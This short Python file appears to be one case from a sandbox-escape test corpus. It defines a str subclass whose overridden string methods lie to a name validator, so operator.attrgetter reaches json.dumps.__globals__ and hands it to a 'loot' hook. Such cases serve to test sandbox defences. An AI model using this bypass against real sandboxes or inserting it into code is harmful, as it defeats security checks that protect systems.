# aim: give attrgetter a name that lies about itself
# mechanism: a str subclass with lying methods; the C code reads the buffer
# language: builtins
# reason: the name that was checked must be the name that is read
# jail: process
# plain: loot

import json
import operator


class Liar(str):
    def split(self, *args):
        return ["name"]

    def startswith(self, *args):
        return False

    def __str__(self):
        return "name"

    endswith = __contains__ = startswith


loot(operator.attrgetter(Liar("__globals__"))(json.dumps))
